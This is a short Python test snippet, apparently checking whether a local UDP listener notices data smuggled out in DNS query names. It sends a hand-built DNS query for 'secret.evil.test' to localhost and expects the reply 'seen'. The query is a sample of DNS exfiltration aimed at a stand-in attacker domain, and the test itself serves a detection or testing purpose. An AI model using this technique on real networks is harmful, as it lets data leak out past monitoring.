"""Sends data in the names that it asks a server for."""
sock = connect(socket.AF_INET, ("127.0.0.1", C["udp"]), socket.SOCK_DGRAM)
sock.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1")
expect(sock.recv(10) == b"seen", "nobody heard it")
